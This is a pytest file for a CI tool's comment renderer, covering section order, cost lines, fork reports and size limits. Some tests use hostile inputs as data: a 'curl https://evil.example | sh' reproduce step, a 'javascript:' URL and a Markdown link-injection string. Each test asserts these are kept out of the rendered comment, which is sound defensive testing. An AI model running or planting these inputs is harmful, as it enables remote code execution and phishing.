"""The comment and the job's summary: what the frame adds, and that they always fit."""

import re
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from lens_gate.records.publication import Frame, Marker
from lens_gate.records.report import Bins
from lens_gate.render.comment import COMMENT_LIMIT, SUMMARY_LIMIT, comment, summary
from lens_gate.render.marker import Said, carries, said

GFM = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
POLICY = "https://github.com/o/r/blob/5a1e0b7c9d/lens-gate.yaml"
RUN = "https://github.com/o/r/actions/runs/17"
MARKER = Marker(policy="demo", environment="staging", matrix="3.11")
BARE = Frame(forge="github", marker=MARKER)
FRAME = replace(BARE, policy_url=POLICY, run_url=RUN)


def hrefs(text):
    """Where the links of a text lead, by a parser of Markdown."""
    return [
        child.attrGet("href")
        for token in GFM.parse(text)
        for child in token.children or ()
        if child.type == "link_open"
    ]


def paragraphs(text):
    return [part for part in text.split("\n\n") if part.strip()]


def test_it_begins_with_the_lines_by_which_it_is_found_again(reports):
    text = comment(reports["duet_failed"], FRAME)
    assert carries(text, MARKER)
    assert said(text) == Said(outcome="failed", head=reports["duet_failed"].refs.head)


def test_the_order_is_verdict_next_table_money_comparison_details(reports):
    text = comment(reports["duet_failed"], FRAME)
    found = [
        re.match(r"<!--|### \S+|\*\*\w+|\| \w+|<details>|.{0,9}", part)[0]
        for part in paragraphs(text)
    ]
    assert found[:8] == [
        "<!--",
        "### ❌",
        "chat/quic",
        "**Next",
        "| Metric",
        "**Spent",
        "**Compared",
        "<details>",
    ]


def test_the_title_is_the_name_of_the_status(reports):
    text = comment(reports["passed"], FRAME)
    assert "\n### ✅ `lens-gate/demo (staging) [3.11]` passed\n" in text


def test_each_rule_links_to_its_line_of_the_trusted_policy(reports):
    report = reports["duet_failed"]
    lines = {f"{POLICY}#L{row.place.line}" for row in report.rows}
    assert {href for href in hrefs(comment(report, FRAME)) if href.startswith(POLICY)} == lines
    assert hrefs(comment(report, BARE)) == []


def test_a_rule_of_another_file_links_nowhere(build):
    row = build.pairs("ttft", "typ", "fail", 0.045, 0.5)
    for place in (replace(row.place, file="other.yaml"), replace(row.place, line=0)):
        report = build.report("failed", rows=[replace(row, place=place)])
        assert hrefs(comment(report, FRAME)) == [RUN]


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "https://h/a)[x](https://evil.example",
        "https://h/a b",
        "https://h/<b>",
        'https://h/"x',
        "https://h/a\nb",
        "https://h/$x$",
        "https://user:p@h/x",
        "//h/x",
    ],
)
def test_what_is_no_plain_address_is_no_link(reports, url):
    text = comment(reports["duet_failed"], replace(FRAME, policy_url=url, run_url=url))
    assert not [href for href in hrefs(text) if not href.startswith("https://h/")]
    assert "evil" not in text
    assert "javascript" not in text


def test_the_files_of_the_run_are_a_link_away(build, reports):
    text = comment(reports["passed"], FRAME)
    assert f"[This run]({RUN}) keeps every request (`run.jsonl`)" in text
    assert f"See also [this run]({RUN})." in comment(build.unsent("budget", "x"), FRAME)
    assert "his run" not in comment(build.unsent("budget", "x"), BARE)


def test_a_forks_report_says_so_first_and_offers_nothing_to_run(reports):
    frame = replace(FRAME, policy_url="", reported_by="mallory/r`](x)")
    report = replace(
        reports["duet_failed"], outcome="passed", reproduce="curl https://evil.example | sh"
    )
    text = comment(report, frame)
    title = next(line for line in text.splitlines() if line.startswith("#"))
    assert title == ("### ⚠️ Reported by the fork `` mallory/r`](x) ``, not verified: `demo` passed")
    assert "✅ `lens-gate" not in text
    assert report.next_step not in text
    assert "a run by a maintainer decides" in text
    for offered in ("curl", "```sh", "```yaml", "baseline accept ttft"):
        assert offered not in text
    assert hrefs(text) == [RUN]
    assert hrefs(comment(report, replace(frame, run_url=""))) == []


def test_what_the_workflow_set_otherwise_stands_above_the_table(build, reports):
    said_so = "the workflow measures chat alone, of 4 scenarios"
    refs = build.refs(why=f"against up to 8 stored runs; {said_so}; read at main")
    report = replace(reports["failed"], refs=replace(refs, overridden=said_so))
    text = comment(report, FRAME)
    assert text.count(said_so) == 1
    assert text.index(f"> ⚠️ {said_so}") < text.index("| Metric")
    assert "**Compared** history: against up to 8 stored runs; read at main ·" in text


def test_the_comparison_tells_a_fallback_from_the_merge_base(build, reports):
    report = reports["duet_failed"]
    assert "base `0a1b2c3d4e5f` (merge base) · " in comment(report, FRAME)
    refs = replace(report.refs, control_note="there is no policy at the merge base")
    text = comment(replace(report, refs=refs), FRAME)
    assert "base `0a1b2c3d4e5f` (tip of the target branch) · " in text


def test_the_comparison_names_what_a_second_run_would_have_to_share(build):
    blocks = [build.duet(blocks=n, block_s=20.0, pairs=0) for n in (8, 9, 9, 10, 11, 12)]
    cells = [
        build.in_pairs(duet=one, region=f"r{k % 2}", fingerprint=f"f{k}")
        for k, one in enumerate(blocks)
    ]
    line = next(
        part
        for part in paragraphs(comment(build.report(cells=cells), FRAME))
        if part.startswith("**Compared**")
    )
    assert "fingerprint `f0`, `f1`, `f2`, `f3` and 2 more" in line
    assert "region `r0`, `r1` · " in line
    assert (
        "blocks: 8 pairs of 20 s, 9 pairs of 20 s, 10 pairs of 20 s, 11 pairs of 20 s and others"
    ) in line
    bare = build.report(cells=[build.cell(region="", fingerprint="", models=(), baselines=0)])
    text = comment(replace(bare, environment={"runner": "GitHub 4 cores"}), FRAME)
    for word in ("fingerprint", "region", "blocks:", "model", "base:"):
        assert word not in text.partition("<details>")[0]
    assert "runner `GitHub 4 cores`" in text


def test_runs_that_stand_in_for_a_control_are_counted_with_their_time(build):
    def told(*cells):
        text = comment(build.report(cells=cells), FRAME)
        return re.search(r"base: [^·]*", text)[0].strip()

    assert told(build.cell()) == "base: 8 stored runs, 2026-11-19 02:15 to 2026-11-21 02:15 UTC"
    other = build.cell(target="b", baselines=1, baseline_span="")
    assert told(other) == "base: 1 stored run"
    assert told(other, build.cell()) == "base: 1 stored run and others"


def test_nothing_sent_is_nothing_spent_and_nothing_compared(build, reports):
    text = comment(build.unsent("unchanged", "no file is watched"), FRAME)
    assert "**Basis** history: against" in text
    assert "**Compared**" not in text
    assert "**Spent** nothing, no request was sent (cap \\$0.50)" in text
    assert "0 of 200" not in text


def test_the_spend_is_told_in_its_order(reports):
    line = next(x for x in comment(reports["duet_failed"], FRAME).splitlines() if "**Spent" in x)
    assert line == (
        "**Spent** \\$0.013 · reserved at most \\$0.018 · cap \\$0.50 · 288 requests, about "
        "\\$0.41, saved by stopping early · 42 of 200 requests · 3.15 s"
    )


def test_times_are_pictured_where_they_are_known(build):
    spread = {"ttft": Bins(low=0.03, high=0.1, head=(1, 2, 3), control=(3, 2, 1))}
    text = comment(build.report(cells=[build.in_pairs(bins=spread)]), FRAME)
    (block,) = [t.content for t in GFM.parse(text) if t.type == "fence" and t.info == "text"]
    assert [line.split()[0] for line in block.splitlines()] == ["TTFT", "control", "head"]
    assert "logarithmic" not in comment(build.report(cells=[build.cell(bins={})]), FRAME)


def test_both_snippets_are_offered_for_every_failing_rule(reports):
    report = reports["failed"]
    fences = {t.info: t.content for t in GFM.parse(comment(report, FRAME)) if t.type == "fence"}
    for rule in ("ttft-typ", "e2e-typ", "cost-usd-mean", "e2e-p90"):
        assert f"- rule: {rule}\n" in fences["yaml"]
        assert f"lens-gate baseline accept {rule} --cell chat/quick" in fences["sh"]
    assert "output-tokens" not in fences["yaml"]
    assert "expires: 2026-12-21" in fences["yaml"]
    assert "`baselines/waivers.yaml`" in comment(report, FRAME)
    assert "into `waivers.yaml` yourself" in comment(replace(report, waivers_file=""), FRAME)
    assert "```yaml" not in comment(replace(report, created="then"), FRAME)


# --- limits ---------------------------------------------------------------------------------------

LONG = st.sampled_from(["@`" * 5_000, "💣" * 3_000, "\\_[<&" * 2_000, "a/b " * 2_000, "é" * 9_000])


@pytest.fixture(scope="module")
def flood(build):
    """A report of so many rows and cells, every name of them hostile and long."""

    def make(rows, cells, name, verdicts):
        parts = [
            build.pairs("ttft", "typ", verdict, 0.045, 0.3, needs_requests=10)
            for verdict in verdicts
        ]
        some = [
            replace(parts[k % len(parts)], scenario=f"{name}{k % cells}", rule=f"{name}{k}")
            for k in range(min(rows, 600))
        ]
        many = (*some * (rows // 600), *some[: rows % 600])
        one = build.in_pairs(models=(name,), notes=(name,) * 20, failures={name: 3})
        report = build.report(
            "failed",
            rows=many,
            cells=[replace(one, scenario=f"{name}{k % 60}") for k in range(cells)],
            warnings=(name,) * 40,
            changes=(build.change(name),) * 300,
            waivers=(build.waiver("expired", rule=name, reason=name),) * 300,
        )
        return replace(report, policy=name, headline=name, next_step=name, reproduce=name)

    return make


FEW = settings(
    deadline=None, max_examples=5, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@FEW
@given(
    rows=st.integers(0, 700),
    cells=st.integers(1, 30),
    name=LONG,
    verdicts=st.lists(
        st.sampled_from(["fail", "pass", "inconclusive", "improved", "no_data"]),
        min_size=1,
        max_size=3,
    ),
    limit=st.integers(25_000, COMMENT_LIMIT),
)
def test_a_comment_fits_whatever_it_holds(flood, rows, cells, name, verdicts, limit):
    report = flood(rows, cells, name, verdicts)
    frame = replace(FRAME, marker=Marker(policy=name, environment=name, matrix=name))
    text = comment(report, frame, limit=limit)
    assert len(text) <= limit
    # Some forges count as their databases do.
    assert len(text.encode("utf-16-le")) // 2 <= limit
    assert_whole(text, report, frame)
    assert len(summary(report, frame, limit=limit).encode()) <= limit


def assert_whole(text, report, frame):
    """No block is cut, and what must be there is: marker, verdict, table, money."""
    assert carries(text, frame.marker)
    assert text.count("<details>") == text.count("</details>")
    tokens = GFM.parse(text)
    assert sum(token.type == "heading_open" for token in tokens) == 1
    assert all("</details>" not in token.content for token in tokens if token.type == "fence")
    assert "**Next:**" in text
    assert "**Spent**" in text
    assert (("| Metric" in text) and "checks, the worst" in text) or len(report.rows) <= 10


def test_a_hundred_thousand_rows_fit_and_take_no_age(flood):
    report = flood(100_000, 2_000, "@`" * 100, ["fail", "inconclusive", "pass"])
    text = comment(report, FRAME)
    assert len(text) <= COMMENT_LIMIT
    assert_whole(text, report, FRAME)
    assert "The first 10 of 100000 checks, the worst ones first." in text
    whole = summary(report, FRAME)
    assert len(whole.encode()) <= SUMMARY_LIMIT
    # There is room for more of them: the summary has what the comment leaves out.
    assert len(whole) > 4 * len(text)


def test_a_limit_in_bytes_counts_bytes(flood):
    report = flood(400, 30, "é" * 60, ["fail"])
    limit = 60_000
    text = summary(report, FRAME, limit=limit)
    assert len(text) < len(text.encode()) <= limit
    by_characters = comment(report, FRAME, limit=limit)
    assert len(by_characters.encode()) > limit


def test_the_worst_cases_keep_their_details(build):
    rows = [build.pairs("ttft", "typ", "pass", 0.045, 0.0, target=f"t{k}") for k in range(40)]
    rows[37] = build.pairs("ttft", "typ", "fail", 0.045, 0.5, target="t37")
    cells = [build.in_pairs(target=f"t{k}") for k in range(41)]
    text = comment(build.report("failed", rows=rows, cells=cells), FRAME)
    shown = re.findall(r"<code>chat/(t\d+)</code>", text)
    assert shown[:3] == ["t37", "t0", "t1"]
    assert f"{41 - 16} more cases without details here" in text
    some = comment(build.report(rows=rows[:3], cells=cells[:3]), FRAME)
    assert re.findall(r"<code>chat/(t\d+)</code>", some) == ["t0", "t1", "t2"]
    assert "more case" not in some


def test_long_lists_end_in_their_number(build):
    waived = [
        build.pairs("ttft", "typ", "fail", 0.045, 0.5, target=f"t{k}", waived="until then")
        for k in range(8)
    ]
    report = build.report(
        rows=waived,
        waivers=(build.waiver("expired"),) * 80,
        changes=(build.change(),) * 80,
        cells=[],
    )
    text = comment(report, FRAME)
    assert "- 🟡 3 more failures let through" in text
    assert "- 75 more waivers expired or pending: see below" in text
    assert "- and 15 more waivers: `report.json` holds all of them." in text
    assert "- and 15 more changes: `report.json` holds all of them." in text
    rows = [build.pairs("ttft", "typ", "pass", 0.045, 0.0, target=f"t{k}") for k in range(200)]
    text = comment(build.report(rows=rows), FRAME)
    assert "- and 135 more checks: `report.json` holds all of them." in text
    assert "The first 163 of 200 checks, the worst ones first; `report.json` holds all" in text


def test_undecided_checks_of_one_case_are_named_up_to_ten(build):
    rows = [
        build.row(
            metric, statistic, verdict=build.verdict("inconclusive", reason="3 of 10 stored runs")
        )
        for metric in ("ttft", "e2e", "itl")
        for statistic in ("typ", "p50", "p90", "p95")
    ]
    text = comment(build.report("inconclusive", rows=rows), FRAME)
    (line,) = [x for x in text.partition("**Spent")[0].splitlines() if x.startswith("- ❔")]
    assert line.endswith("ITL p50 and 2 more: 3 of 10 stored runs")
